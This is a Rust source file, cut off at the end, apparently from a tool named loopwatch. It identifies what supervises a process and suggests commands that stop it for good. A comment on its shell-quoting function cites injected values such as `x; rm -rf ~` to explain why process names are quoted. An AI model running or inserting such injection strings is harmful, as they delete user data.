//! What stands behind a process, and what stopping it will lead to: the systemd unit or the
//! container its cgroup names, and the supervisors, file watchers, script runners and
//! terminal multiplexers among its ancestors. Pure: fed the cgroup text, the ancestry (names
//! and argv), systemd's answer about the unit and the container engine's listing.
//!
//! Only what can be read is said. An ancestor is recognised by the name and arguments it
//! shows, which any process may choose: every one is named with its real name and pid, so a
//! process calling itself `PM2 v5: God Daemon` is reported as exactly that, for the user to
//! judge. A restart policy systemd was not asked about, or did not give, is unknown, never
//! guessed.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::sync::Arc;

use crate::model::{
    Ancestor, Container, Engine, EngineView, Manager, OsText, Placement, ProcessDetails,
    Provenance, Readable, Restart, Signal, Unit, UnitAnswer, inert, inert_residue, process_label,
};

/// What a supervision is worked out from.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Behind<'a> {
    pub(crate) pid: u32,
    /// Parent first.
    pub(crate) ancestry: &'a [Ancestor],
    pub(crate) cgroup: &'a Readable<OsText>,
    /// systemd's answer about the unit, when it was asked.
    pub(crate) unit: Option<&'a UnitAnswer>,
    pub(crate) engine: &'a EngineView,
}

impl<'a> Behind<'a> {
    pub(crate) fn details(details: &'a ProcessDetails, engine: &'a EngineView) -> Self {
        Self {
            pid: details.key.pid,
            ancestry: &details.ancestry,
            cgroup: &details.cgroup,
            unit: details.unit.as_ref(),
            engine,
        }
    }

    /// For naming who restarted a process: systemd is not asked.
    pub(crate) fn provenance(pid: u32, provenance: &'a Provenance, engine: &'a EngineView) -> Self {
        Self {
            pid,
            ancestry: &provenance.ancestry,
            cgroup: &provenance.cgroup,
            unit: None,
            engine,
        }
    }
}

/// A program among the ancestors that loopwatch knows the ways of.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Tool {
    Pm2,
    Nodemon,
    Supervisord {
        config: Option<OsText>,
    },
    Runit {
        service: Option<OsText>,
    },
    S6 {
        service: Option<OsText>,
    },
    /// `npm run dev`, `yarn dev`, `pnpm run build`, `npx vite`: the words it was run with.
    Script {
        runner: &'static str,
        words: OsText,
    },
    CargoWatch,
    Watchexec,
    /// `shell`: a shell stands between the terminal's server and the process, and stays in
    /// the window once the process is gone; without one the process is the window's own
    /// command and the window closes with it.
    Tmux {
        socket: Option<OsText>,
        session: Option<OsText>,
        shell: bool,
    },
    Screen {
        session: Option<OsText>,
        shell: bool,
    },
}

/// One thing standing behind the process.
#[derive(Debug, Clone, PartialEq)]
enum Link {
    /// A systemd service or scope, and systemd's answer about it (`None`: not asked).
    Unit {
        unit: Unit,
        answer: Option<UnitAnswer>,
    },
    /// A login session or a user's manager: where processes started by hand live.
    Session(String),
    Container {
        engine: Engine,
        id: String,
        /// The user whose own (rootless) engine runs it; `None` for the system's engine.
        user: Option<u32>,
        /// The engine's listing of it, when the engine listed it.
        listed: Option<Arc<Container>>,
        /// Why the engine could not tell, when it could not be asked.
        unreachable: Option<String>,
    },
    /// An ancestor, by its pid and the name it shows.
    Tool { tool: Tool, pid: u32, name: OsText },
}

/// Whether the process comes back after it is stopped.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Restarts {
    Yes,
    No,
    /// Only once a file it watches changes.
    OnFileChange,
    Unknown,
}

impl Restarts {
    /// For JSON: `true`, `false`, or `null` when it cannot be told.
    pub(crate) fn known(self) -> Option<bool> {
        match self {
            Restarts::Yes => Some(true),
            Restarts::No | Restarts::OnFileChange => Some(false),
            Restarts::Unknown => None,
        }
    }
}

/// What stopping the process will lead to, for one signal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Effect {
    pub(crate) restarts: Restarts,
    /// `it will be restarted: Restart=always starts it again after any exit`
    pub(crate) text: String,
}

/// What the cgroup file said, when it said no more than where the process is not.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Cgroup {
    /// Read and placed (a unit, a container or a session are links of the chain).
    Placed(Placement),
    Denied,
    Missing,
}

/// Everything that stands behind one process.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct Supervision {
    pid: u32,
    /// Outermost first: the unit, container or session, then the recognised ancestors, oldest
    /// first.
    chain: Vec<Link>,
    /// The link that decides what a stop leads to.
    decisive: Option<usize>,
    cgroup: Cgroup,
    /// The nearest ancestor that is not a shell or a script runner: the one that started it.
    starter: Option<(u32, OsText)>,
}

impl Supervision {
    pub(crate) fn of(behind: &Behind) -> Supervision {
        let mut chain = Vec::new();
        let cgroup = match behind.cgroup {
            Readable::Value(text) => Cgroup::Placed(Placement::from_proc(text.raw())),
            Readable::Denied => Cgroup::Denied,
            Readable::Missing => Cgroup::Missing,
        };
        if let Cgroup::Placed(placement) = &cgroup {
            match placement {
                Placement::Unit(unit) => chain.push(Link::Unit {
                    unit: unit.clone(),
                    answer: behind.unit.cloned(),
                }),
                Placement::Container { engine, id, user } => {
                    chain.push(container_link(*engine, id, *user, behind.engine));
                }
                Placement::Session(name) => chain.push(Link::Session(name.clone())),
                Placement::Plain(_) | Placement::Garbled => {}
            }
        }
        let outer = chain.len();
        chain.extend(
            behind
                .ancestry
                .iter()
                .enumerate()
                .rev()
                .filter_map(|(at, ancestor)| {
                    let mut tool = tool_of(ancestor)?;
                    if let Tool::Tmux { shell, .. } | Tool::Screen { shell, .. } = &mut tool {
                        *shell = behind.ancestry[..at].iter().any(|a| is_shell(a.name.raw()));
                    }
                    Some(Link::Tool {
                        tool,
                        pid: ancestor.pid,
                        name: ancestor.name.clone(),
                    })
                }),
        );
        let decisive = decisive(&chain, outer);
        let starter = behind
            .ancestry
            .iter()
            .find(|a| !is_shell(a.name.raw()) && !matches!(tool_of(a), Some(Tool::Script { .. })))
            .map(|a| (a.pid, a.name.clone()));
        Supervision {
            pid: behind.pid,
            chain,
            decisive,
            cgroup,
            starter,
        }
    }

    fn decisive_link(&self) -> Option<&Link> {
        self.chain.get(self.decisive?)
    }

    /// `managed by systemd unit redis-server.service (Restart=always)`: who decides whether it
    /// comes back.
    pub(crate) fn headline(&self) -> String {
        let Some(link) = self.decisive_link() else {
            return match &self.cgroup {
                Cgroup::Denied | Cgroup::Missing => format!(
                    "unknown: its cgroup could not be read ({}); no known supervisor among its ancestors",
                    self.cgroup_text()
                ),
                Cgroup::Placed(Placement::Session(name)) => format!(
                    "no service manager: it runs in {}, started by hand; no container, no known supervisor among its ancestors",
                    session_label(name)
                ),
                Cgroup::Placed(_) => format!(
                    "no service manager (cgroup {}), no container, no known supervisor among its ancestors",
                    self.cgroup_text()
                ),
            };
        };
        let label = link.label();
        match link {
            Link::Unit { .. } => format!("managed by {label}"),
            Link::Container { .. } => format!("in {label}"),
            Link::Session(_) => label,
            Link::Tool { tool, .. } => match tool {
                Tool::Pm2 | Tool::Supervisord { .. } | Tool::Runit { .. } | Tool::S6 { .. } => {
                    format!("managed by {label}")
                }
                Tool::Nodemon | Tool::CargoWatch | Tool::Watchexec => {
                    format!("watched by {label}")
                }
                Tool::Script { .. } => format!("run by {label}"),
                Tool::Tmux { .. } | Tool::Screen { .. } => format!("run in {label}"),
            },
        }
    }

    /// What stopping it with `signal` will lead to.
    pub(crate) fn after(&self, signal: Signal) -> Effect {
        let Some(link) = self.decisive_link() else {
            return match self.cgroup {
                Cgroup::Denied | Cgroup::Missing => Effect {
                    restarts: Restarts::Unknown,
                    text: "whether a service manager would restart it is unknown".into(),
                },
                Cgroup::Placed(_) => Effect {
                    restarts: Restarts::No,
                    text: "it will not be restarted by anything loopwatch knows of".into(),
                },
            };
        };
        link.after(signal, self.pid)
    }

    /// The command that stops it for good, when stopping the process is not enough.
    pub(crate) fn for_good(&self) -> Option<String> {
        Some(self.decisive_link()?.for_good(self.pid)?.field())
    }

    /// The command alone, for a dialog with little room (the note is in the inspect view).
    pub(crate) fn for_good_command(&self) -> Option<String> {
        Some(self.decisive_link()?.for_good(self.pid)?.shown())
    }

    /// `managed by ... : after SIGTERM it will be restarted ...; `systemctl stop ...` stops it
    /// for good`: the whole answer in one sentence.
    pub(crate) fn sentence(&self, signal: Signal) -> String {
        let mut text = format!(
            "{}: after {signal} {}",
            self.headline(),
            self.after(signal).text
        );
        if let Some(way) = self.decisive_link().and_then(|l| l.for_good(self.pid)) {
            text.push_str("; ");
            text.push_str(&way.sentence());
        }
        text
    }

    /// Whether it comes back, and who decides, in a few words for a dialog with room for no
    /// more: `yes, systemd unit redis-server.service`.
    pub(crate) fn compact(&self, signal: Signal) -> String {
        let Some(link) = self.decisive_link() else {
            return match self.cgroup {
                Cgroup::Denied | Cgroup::Missing => "unknown: its cgroup is unreadable".into(),
                Cgroup::Placed(_) => "no: nothing known behind it".into(),
            };
        };
        let who = link.short();
        match self.after(signal).restarts {
            Restarts::Yes => format!("yes, {who}"),
            Restarts::No => format!("no ({who})"),
            Restarts::OnFileChange => format!("on a file change ({who})"),
            Restarts::Unknown => format!("unknown ({who})"),
        }
    }

    /// The answer as lines for a terminal: who, what the signal leads to, how to stop it for
    /// good, and the chain ending with `process`.
    pub(crate) fn lines(&self, signal: Signal, process: &str) -> Vec<String> {
        let mut lines = vec![
            self.headline(),
            format!("after {signal} {}", self.after(signal).text),
        ];
        if let Some(way) = self.decisive_link().and_then(|l| l.for_good(self.pid)) {
            lines.push(way.sentence());
        }
        if let Some(chain) = self.chain(process) {
            lines.push(format!("chain: {chain}"));
        }
        lines
    }

    /// `systemd user unit vite.service > tmux: server 900 > npm run dev 4800 > node 4812`,
    /// ending with `process`; `None` when nothing stands behind it.
    pub(crate) fn chain(&self, process: &str) -> Option<String> {
        if self.chain.is_empty() {
            return None;
        }
        let mut parts: Vec<String> = self.chain.iter().map(Link::short).collect();
        parts.push(process.to_string());
        Some(parts.join(" > "))
    }

    /// The cgroup, when no unit, container or session in it is part of the chain: `/`, or
    /// why it could not be read.
    pub(crate) fn cgroup_note(&self) -> Option<String> {
        match &self.cgroup {
            Cgroup::Placed(Placement::Plain(_) | Placement::Garbled) => Some(format!(
                "{}: no systemd unit, no container",
                self.cgroup_text()
            )),
            Cgroup::Placed(_) => None,
            Cgroup::Denied | Cgroup::Missing => Some(self.cgroup_text()),
        }
    }

    fn cgroup_text(&self) -> String {
        match &self.cgroup {
            Cgroup::Placed(Placement::Plain(path)) => path.to_string(),
            Cgroup::Placed(Placement::Garbled) => {
                "unreadable text, no ID:CONTROLLERS:PATH line".into()
            }
            Cgroup::Placed(_) => String::new(),
            Cgroup::Denied => "hidden: owned by another user; run as root to see it".into(),
            Cgroup::Missing => {
                "not available: the process exited, or this system has no /proc cgroup file".into()
            }
        }
    }

    /// For a process that bound a port again after a stop: `supervisord 4700 restarted it;
    /// `supervisorctl stop PROGRAM` stops it for good`, when the process that started it (past
    /// shells and script runners) is that supervisor, the unit's systemd, or the container's
    /// runtime. `None` otherwise: its parent is then all there is to name.
    pub(crate) fn restarted_by(&self) -> Option<String> {
        let link = self.decisive_link()?;
        let (starter_pid, starter) = self.starter.as_ref()?;
        let starter = base(starter.raw());
        let restarts = match link {
            Link::Tool { tool, pid, .. } => {
                *pid == *starter_pid
                    && matches!(
                        tool,
                        Tool::Pm2
                            | Tool::Supervisord { .. }
                            | Tool::Runit { .. }
                            | Tool::S6 { .. }
                            | Tool::Nodemon
                            | Tool::CargoWatch
                            | Tool::Watchexec
                    )
            }
            Link::Unit { unit, .. } => !unit.is_scope() && starter == "systemd",
            Link::Container { .. } => starter.starts_with("containerd-shim") || starter == "conmon",
            Link::Session(_) => false,
        };
        if !restarts {
            return None;
        }
        let who = match link {
            Link::Tool { tool, pid, name } => named(tool, *pid, name),
            _ => link.short(),
        };
        let mut text = format!("{who} restarted it");
        // Said inside parentheses: the note follows after a semicolon.
        if let Some(way) = link.for_good(self.pid) {
            let _ = write!(text, "; {} stops it for good", way.shown());
            if let Some(note) = way.note {
                let _ = write!(text, "; {note}");
            }
        }
        Some(text)
    }

    /// The deciding link as data, for JSON; `None` when nothing stands behind the process
    /// (and that could be read).
    pub(crate) fn summary(&self, signal: Signal) -> Option<Summary> {
        let effect = self.after(signal);
        let chain = self.chain.iter().map(Link::short).collect();
        let Some(link) = self.decisive_link() else {
            return matches!(self.cgroup, Cgroup::Denied | Cgroup::Missing).then(|| Summary {
                kind: "unknown",
                name: None,
                pid: None,
                restarts: None,
                restart_policy: None,
                stop_for_good: None,
                message: self.sentence(signal),
                chain,
            });
        };
        let (name, pid) = match link {
            Link::Unit { unit, .. } => (Some(unit.name.clone()), None),
            Link::Session(name) => (Some(name.clone()), None),
            Link::Container { id, listed, .. } => (
                Some(
                    listed
                        .as_ref()
                        .map_or_else(|| id.clone(), |c| c.name.raw().to_string()),
                ),
                None,
            ),
            Link::Tool { pid, name, .. } => (Some(name.raw().to_string()), Some(*pid)),
        };
        let restart_policy = match link {
            Link::Unit {
                answer: Some(UnitAnswer::Known(state)),
                ..
            } => Some(state.restart.as_str()),
            _ => None,
        };
        Some(Summary {
            kind: link.kind(),
            name,
            pid,
            restarts: effect.restarts.known(),
            restart_policy,
            stop_for_good: link.for_good(self.pid).map(|way| way.exact),
            message: self.sentence(signal),
            chain,
        })
    }
}

/// The deciding link of a supervision, as data (JSON is made from it).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Summary {
    /// `systemd_unit`, `systemd_user_unit`, `container`, `pm2`, `supervisord`, `runit`, `s6`,
    /// `nodemon`, `cargo_watch`, `watchexec`, `npm` (and `pnpm`, `yarn`, `npx`), `tmux`,
    /// `screen`, `session`, or `unknown` when the cgroup could not be read.
    pub(crate) kind: &'static str,
    /// The unit, the container (or its id), or the ancestor's name, exactly.
    pub(crate) name: Option<String>,
    /// The ancestor's pid, for a supervisor among the ancestors.
    pub(crate) pid: Option<u32>,
    /// Whether the signal sent will be followed by a restart; `null` when it cannot be told.
    pub(crate) restarts: Option<bool>,
    /// systemd's `Restart=` value, when systemd gave it.
    pub(crate) restart_policy: Option<&'static str>,
    /// The command exactly, names as read (`supervisorctl -c /etc/x.conf stop PROGRAM`).
    pub(crate) stop_for_good: Option<String>,
    /// The whole answer in one sentence, as the text output says it.
    pub(crate) message: String,
    /// Everything recognised behind it, outermost first.
    pub(crate) chain: Vec<String>,
}

/// The nearest ancestor that restarts the process, watches it, or keeps a terminal around it
/// decides; script runners exit with the process, so what stands behind them decides; then
/// the unit or container; a script runner with nothing behind it is the last word.
fn decisive(chain: &[Link], outer: usize) -> Option<usize> {
    let mut runner = None;
    for i in (outer..chain.len()).rev() {
        match &chain[i] {
            Link::Tool {
                tool: Tool::Script { .. },
                ..
            } => {
                runner.get_or_insert(i);
            }
            Link::Tool { .. } => return Some(i),
            _ => {}
        }
    }
    match chain.first() {
        Some(Link::Unit { .. } | Link::Container { .. }) if outer == 1 => Some(0),
        _ => runner,
    }
}

fn container_link(engine: Engine, id: &str, user: Option<u32>, view: &EngineView) -> Link {
    // A user's rootless engine is not the one loopwatch asks: a container of the same id
    // there is another container.
    let listed = view
        .containers()
        .iter()
        .find(|c| user.is_none() && c.id == id)
        .map(Arc::clone);
    let unreachable = match view {
        EngineView::Unreachable { endpoint, reason } => Some(format!(
            "the engine ({endpoint}) could not be asked: {reason}"
        )),
        _ => None,
    };
    Link::Container {
        engine,
        id: id.to_string(),
        user,
        listed,
        unreachable,
    }
}

fn session_label(name: &str) -> String {
    if name.starts_with("user@") {
        format!("{name}, the user's own systemd manager")
    } else {
        format!("login session {name}")
    }
}

/// Shells run the command they were given and exit with it.
fn is_shell(name: &str) -> bool {
    matches!(
        base(name.trim_start_matches('-')),
        "sh" | "bash" | "dash" | "zsh" | "fish" | "ksh" | "ash" | "busybox"
    )
}

/// `node` from `/usr/bin/node`, `npm-cli` from `npm-cli.js`.
fn base(word: &str) -> &str {
    let name = word.rsplit('/').next().unwrap_or(word);
    [".js", ".cjs", ".mjs", ".py"]
        .iter()
        .find_map(|ext| name.strip_suffix(ext))
        .unwrap_or(name)
}

/// Programs that run another program's script: `node /usr/bin/npm`, `python3 supervisord`.
fn is_interpreter(word: &str) -> bool {
    let name = base(word);
    matches!(name, "node" | "nodejs" | "bun") || name.starts_with("python")
}

/// The value after any of `flags` (`-c FILE`), or glued to it (`--configuration=FILE`).
fn option(words: &[&str], flags: &[&str]) -> Option<OsText> {
    words.iter().enumerate().find_map(|(i, word)| {
        flags.iter().find_map(|flag| {
            if word == flag {
                words.get(i + 1).map(|v| OsText::from(*v))
            } else {
                word.strip_prefix(flag)
                    .and_then(|rest| rest.strip_prefix('='))
                    .map(OsText::from)
            }
        })
    })
}

/// What an ancestor is, from the name and arguments it shows.
fn tool_of(ancestor: &Ancestor) -> Option<Tool> {
    let name = ancestor.name.raw();
    let argv: Vec<&str> = match &ancestor.argv {
        Readable::Value(argv) => argv.iter().map(OsText::raw).collect(),
        Readable::Denied | Readable::Missing => Vec::new(),
    };
    let title = argv.first().copied().unwrap_or(name);
    // PM2's daemon names itself `PM2 v5.3.0: God Daemon (/home/ana/.pm2)` (its name is cut
    // to 15 bytes: `PM2 v5.3.0: God`).
    if (title.starts_with("PM2 v") || name.starts_with("PM2 v"))
        && (title.contains("God") || name.contains("God"))
    {
        return Some(Tool::Pm2);
    }
    // A rewritten title is one argument holding spaces (`npm run dev`); unread arguments leave
    // the name to go by.
    let words: Vec<&str> = match argv.as_slice() {
        [] => name.split_whitespace().collect(),
        [one] if one.contains(' ') => one.split_whitespace().collect(),
        many => many.to_vec(),
    };
    let mut rest = words.as_slice();
    if rest.first().is_some_and(|w| is_interpreter(w)) && rest.len() > 1 {
        rest = &rest[1..];
        while rest.len() > 1 && rest[0].starts_with('-') {
            rest = &rest[1..];
        }
    }
    let (program, params) = match rest {
        [first, params @ ..] => (base(first), params),
        [] => return None,
    };
    if name.starts_with("tmux") || program == "tmux" {
        let session = params
            .iter()
            .position(|w| w.starts_with("new"))
            .and_then(|at| option(&params[at..], &["-s"]));
        return Some(Tool::Tmux {
            socket: option(params, &["-L", "-S"]),
            session,
            shell: false,
        });
    }
    let tool = match program {
        "supervisord" => Tool::Supervisord {
            config: option(params, &["-c", "--configuration"]),
        },
        "nodemon" => Tool::Nodemon,
        "runsv" => Tool::Runit {
            service: params.first().map(|s| OsText::from(*s)),
        },
        "s6-supervise" => Tool::S6 {
            service: params.first().map(|s| OsText::from(*s)),
        },
        "cargo-watch" | "watchexec" => {
            if program == "watchexec" {
                Tool::Watchexec
            } else {
                Tool::CargoWatch
            }
        }
        "cargo" if params.first() == Some(&"watch") => Tool::CargoWatch,
        "screen" | "SCREEN" => Tool::Screen {
            session: option(params, &["-S"]),
            shell: false,
        },
        _ => {
            let runner = match program {
                "npm" | "npm-cli" => "npm",
                "npx" | "npx-cli" => "npx",
                "yarn" | "yarnpkg" => "yarn",
                "pnpm" | "pnpx" => "pnpm",
                _ => return None,
            };
            let mut shown = vec![runner];
            shown.extend(params.iter().take_while(|w| !w.starts_with('-')).take(2));
            Tool::Script {
                runner,
                words: OsText::from(shown.join(" ")),
            }
        }
    };
    Some(tool)
}

impl Tool {
    /// The program's own name, as the user would type it.
    fn program(&self) -> &'static str {
        match self {
            Tool::Pm2 => "pm2",
            Tool::Nodemon => "nodemon",
            Tool::Supervisord { .. } => "supervisord",
            Tool::Runit { .. } => "runsv",
            Tool::S6 { .. } => "s6-supervise",
            Tool::Script { runner, .. } => runner,
            Tool::CargoWatch => "cargo watch",
            Tool::Watchexec => "watchexec",
            Tool::Tmux { .. } => "tmux",
            Tool::Screen { .. } => "screen",
        }
    }
}

impl Link {
    /// How the chain names it: the unit, the container, or the ancestor's own name and pid.
    fn short(&self) -> String {
        match self {
            Link::Unit { unit, .. } => unit_label(unit),
            Link::Session(name) => session_label(name),
            Link::Container {
                engine,
                id,
                user,
                listed,
                ..
            } => match (listed, user) {
                (Some(container), _) => format!("{} container {}", engine.name(), container.name),
                (None, Some(uid)) => format!(
                    "rootless {} container {} (uid {uid})",
                    engine.name(),
                    short_id(id)
                ),
                (None, None) => format!("{} container {}", engine.name(), short_id(id)),
            },
            Link::Tool { tool, pid, name } => match tool {
                Tool::Script { words, .. } if words.raw() != name.raw() => {
                    format!("{words} ({})", process_label(name, *pid))
                }
                _ => process_label(name, *pid),
            },
        }
    }

    /// How a headline names it: with what was read about it (the unit's policy, the
    /// container's image, a supervisor's config or service).
    fn label(&self) -> String {
        match self {
            Link::Unit {
                answer: Some(UnitAnswer::Known(state)),
                unit,
            } if !unit.is_scope() => format!(
                "{} (Restart={})",
                self.label_without_policy(),
                state.restart.as_str()
            ),
            _ => self.label_without_policy(),
        }
    }

    fn label_without_policy(&self) -> String {
        match self {
            Link::Unit { .. } | Link::Session(_) => self.short(),
            Link::Container { engine, listed, .. } => match listed {
                Some(container) => format!(
                    "{} container {}, id {}",
                    engine.name(),
                    container.label(),
                    container.short_id()
                ),
                None => self.short(),
            },
            Link::Tool { tool, pid, name } => {
                let who = process_label(name, *pid);
                let named = named(tool, *pid, name);
                match tool {
                    Tool::Supervisord {
                        config: Some(config),
                    } => format!("{named}, config {config}"),
                    Tool::Runit {
                        service: Some(service),
                    } => format!("runit service {service} ({who})"),
                    Tool::S6 {
                        service: Some(service),
                    } => format!("s6 service {service} ({who})"),
                    Tool::Script { .. } => self.short(),
                    Tool::Tmux {
                        socket, session, ..
                    } => {
                        let mut extra = Vec::new();
                        if let Some(session) = session {
                            extra.push(format!("started with session {session}"));
                        }
                        if let Some(socket) = socket {
                            extra.push(format!("socket {socket}"));
                        }
                        if extra.is_empty() {
                            format!("tmux ({who})")
                        } else {
                            format!("tmux ({who}, {})", extra.join(", "))
                        }
                    }
                    Tool::Screen {
                        session: Some(session),
                        ..
                    } => format!("screen session {session} ({who})"),
                    _ => named,
                }
            }
        }
    }

    fn kind(&self) -> &'static str {
        match self {
            Link::Unit { unit, .. } => match unit.manager {
                Manager::System => "systemd_unit",
                Manager::User(_) => "systemd_user_unit",
            },
            Link::Session(_) => "session",
            Link::Container { .. } => "container",
            Link::Tool { tool, .. } => match tool {
                Tool::Pm2 => "pm2",
                Tool::Nodemon => "nodemon",
                Tool::Supervisord { .. } => "supervisord",
                Tool::Runit { .. } => "runit",
                Tool::S6 { .. } => "s6",
                Tool::Script { runner, .. } => runner,
                Tool::CargoWatch => "cargo_watch",
                Tool::Watchexec => "watchexec",
                Tool::Tmux { .. } => "tmux",
                Tool::Screen { .. } => "screen",
            },
        }
    }

    /// What stopping the process with `signal` leads to, as far as this link decides it.
    fn after(&self, signal: Signal, pid: u32) -> Effect {
        let effect = |restarts, text: String| Effect { restarts, text };
        let yes = |why: String| effect(Restarts::Yes, format!("it will be restarted: {why}"));
        let no = |why: String| effect(Restarts::No, format!("it will not be restarted: {why}"));
        match self {
            Link::Unit { unit, answer } => unit_after(unit, answer.as_ref(), signal, pid),
            Link::Session(_) => no("nothing restarts processes started by hand".into()),
            Link::Container {
                engine,
                unreachable,
                ..
            } => {
                let mut text = match engine {
                    Engine::Docker | Engine::Podman => format!(
                        "whether it will be restarted is unknown: if it is the container's main process the container stops with it, and the container's restart policy (loopwatch does not read it) decides whether {} starts it again",
                        engine.name()
                    ),
                    Engine::Containerd | Engine::CriO | Engine::Kubernetes => "whether it will be restarted is unknown: the kubelet starts a pod's container again after it exits, unless the pod's restartPolicy is Never".to_string(),
                };
                if let Some(why) = unreachable {
                    text.push_str(" (");
                    text.push_str(&inert(why));
                    text.push(')');
                }
                effect(Restarts::Unknown, text)
            }
            Link::Tool { tool, .. } => match tool {
                Tool::Pm2 => {
                    yes("pm2 restarts it at once, unless the app runs with --no-autorestart".into())
                }
                Tool::Supervisord { .. } => {
                    let mut why = "supervisord restarts a program a signal ends, unless it sets autorestart=false".to_string();
                    if signal != Signal::Kill {
                        let _ = write!(why, "; not one that exits 0 on {signal}");
                    }
                    yes(why)
                }
                Tool::Runit { .. } | Tool::S6 { .. } => yes(format!(
                    "{} restarts it after any exit, until told to stop",
                    tool.program()
                )),
                Tool::Nodemon | Tool::CargoWatch | Tool::Watchexec => effect(
                    Restarts::OnFileChange,
                    format!(
                        "it will be restarted only when a file {} watches changes",
                        tool.program()
                    ),
                ),
                Tool::Script { words, .. } => no(format!(
                    "{words} exits with it, and nothing stands behind that"
                )),
                Tool::Tmux { shell: true, .. } => {
                    no("tmux does not restart it; the shell in its window stays".into())
                }
                Tool::Tmux { shell: false, .. } => no(
                    "tmux does not restart it; it is its window's own command, so the window closes with it (unless remain-on-exit keeps it)".into(),
                ),
                Tool::Screen { shell: true, .. } => {
                    no("screen does not restart it; the shell in its window stays".into())
                }
                Tool::Screen { shell: false, .. } => no(
                    "screen does not restart it; it is its window's own command, so the window closes with it".into(),
                ),
            },
        }
    }

    /// The way to stop it for good.
    fn for_good(&self, pid: u32) -> Option<ForGood> {
        let command = |exact: String, note: Option<String>| {
            Some(ForGood {
                exact,
                command: true,
                verbatim: false,
                note,
            })
        };
        match self {
            Link::Unit { unit, .. } if !unit.is_scope() => {
                let name = word(&unit.name).unwrap_or(Cow::Borrowed("UNIT"));
                let (user, note) = match unit.manager {
                    Manager::System => ("", None),
                    // `--user` reaches the manager of whoever runs it: root's, pasted as root.
                    Manager::User(uid) => (
                        " --user",
                        Some(format!(
                            "as uid {uid}; as any other user, root included: `systemctl --user --machine={uid}@.host stop {name}`"
                        )),
                    ),
                };
                Some(ForGood {
                    exact: format!("systemctl{user} stop {name}"),
                    command: true,
                    // A valid unit name holds nothing a terminal acts on, and its escapes
                    // (`\x2d`) are systemd's own: shown as they must be typed.
                    verbatim: true,
                    note,
                })
            }
            Link::Unit { .. } | Link::Session(_) => None,
            Link::Container {
                engine,
                id,
                user: Some(uid),
                ..
            } => Some(ForGood {
                exact: format!("{} stop {} run as uid {uid}", engine.name(), short_id(id)),
                command: false,
                verbatim: false,
                note: Some(format!(
                    "the container belongs to the engine uid {uid} runs for itself, not to the system's"
                )),
            }),
            Link::Container {
                engine, id, listed, ..
            } => match engine {
                Engine::Docker | Engine::Podman => {
                    let name = listed
                        .as_ref()
                        .map_or_else(|| short_id(id).to_string(), |c| c.name.raw().to_string());
                    let name = word(&name).unwrap_or(Cow::Borrowed(short_id(id)));
                    command(format!("{} stop {name}", engine.name()), None)
                }
                Engine::Containerd | Engine::CriO | Engine::Kubernetes => Some(ForGood {
                    exact: "scaling its workload down with kubectl".into(),
                    command: false,
                    verbatim: false,
                    note: Some("the kubelet restarts a container stopped any other way".into()),
                }),
            },
            Link::Tool {
                tool,
                pid: ancestor,
                ..
            } => match tool {
                Tool::Pm2 => command(
                    "pm2 stop NAME".into(),
                    Some(format!("`pm2 list` shows which app has pid {pid}")),
                ),
                Tool::Supervisord { config } => {
                    Some(supervisorctl_stop(config.as_ref(), *ancestor, pid))
                }
                Tool::Runit { service } => command(
                    format!(
                        "sv down {}",
                        service
                            .as_ref()
                            .and_then(|s| word(s.raw()))
                            .unwrap_or(Cow::Borrowed("SERVICE"))
                    ),
                    None,
                ),
                Tool::S6 { service } => command(
                    "s6-svc -d DIR".into(),
                    Some(match service {
                        Some(service) => {
                            format!("DIR: its service directory, {service} in the scan directory")
                        }
                        None => "DIR: its service directory".into(),
                    }),
                ),
                Tool::Nodemon | Tool::CargoWatch | Tool::Watchexec => command(
                    format!("kill {ancestor}"),
                    Some(format!(
                        "{} itself; or Ctrl-C in its terminal",
                        tool.program()
                    )),
                ),
                Tool::Script { .. } | Tool::Tmux { .. } | Tool::Screen { .. } => None,
            },
        }
    }
}

/// `supervisorctl -c CONFIG stop PROGRAM`, with the config supervisord `supervisor` was
/// started with, and how to tell which program is `pid`.
fn supervisorctl_stop(config: Option<&OsText>, supervisor: u32, pid: u32) -> ForGood {
    let (with, unsafe_config) = match config.map(|p| word(p.raw())) {
        None => (String::new(), None),
        Some(Some(config)) => (format!(" -c {config}"), None),
        Some(None) => (" -c CONFIG".to_string(), config),
    };
    let mut note = format!(
        "`supervisorctl{} status` shows which program has pid {pid}",
        inert(&with)
    );
    if let Some(config) = unsafe_config {
        let _ = write!(
            note,
            "; CONFIG: the file supervisord {supervisor} was started with, {config}, which no quoting keeps one word in every shell"
        );
    }
    ForGood {
        exact: format!("supervisorctl{with} stop PROGRAM"),
        command: true,
        verbatim: false,
        note: Some(note),
    }
}

/// `text` as one shell word: as it is when it holds nothing a shell would act on, else in
/// single quotes. Names in a suggested command come from what processes show, and the user
/// may paste it into a shell: a name like `x; rm -rf ~` must stay one harmless argument.
/// `None` for text holding both a backslash and a single quote: fish reads `\'` inside single
/// quotes as a quote, so `x\'; rm -rf ~ #` would end the word there and run the rest.
fn word(text: &str) -> Option<Cow<'_, str>> {
    let plain = !text.is_empty()
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
    if plain {
        Some(Cow::Borrowed(text))
    } else if text.contains('\\') && text.contains('\'') {
        None
    } else {
        Some(Cow::Owned(format!("'{}'", text.replace('\'', "'\\''"))))
    }
}

/// How to stop a process so that it stays stopped.
#[derive(Debug, Clone, PartialEq, Eq)]
struct ForGood {
    /// The command exactly (names as read, for JSON), or what to do when there is no one
    /// command.
    exact: String,
    command: bool,
    /// Shown as it is (escaping only what a terminal would act on): backslashes in it are
    /// part of what is to be typed.
    verbatim: bool,
    /// How to fill it in or where it applies (inert).
    note: Option<String>,
}

impl ForGood {
    /// `` `supervisorctl stop PROGRAM` ``, as a terminal shows it.
    fn shown(&self) -> String {
        let text = if self.verbatim {
            inert_residue(&self.exact)
        } else {
            inert(&self.exact)
        };
        if self.command {
            format!("`{text}`")
        } else {
            text.into_owned()
        }
    }

    /// `COMMAND (NOTE)`, as a field shows it.
    fn field(&self) -> String {
        match &self.note {
            Some(note) => format!("{} ({note})", self.shown()),
            None => self.shown(),
        }
    }

    /// `COMMAND stops it for good (NOTE)`, as a sentence says it.
    fn sentence(&self) -> String {
        match &self.note {
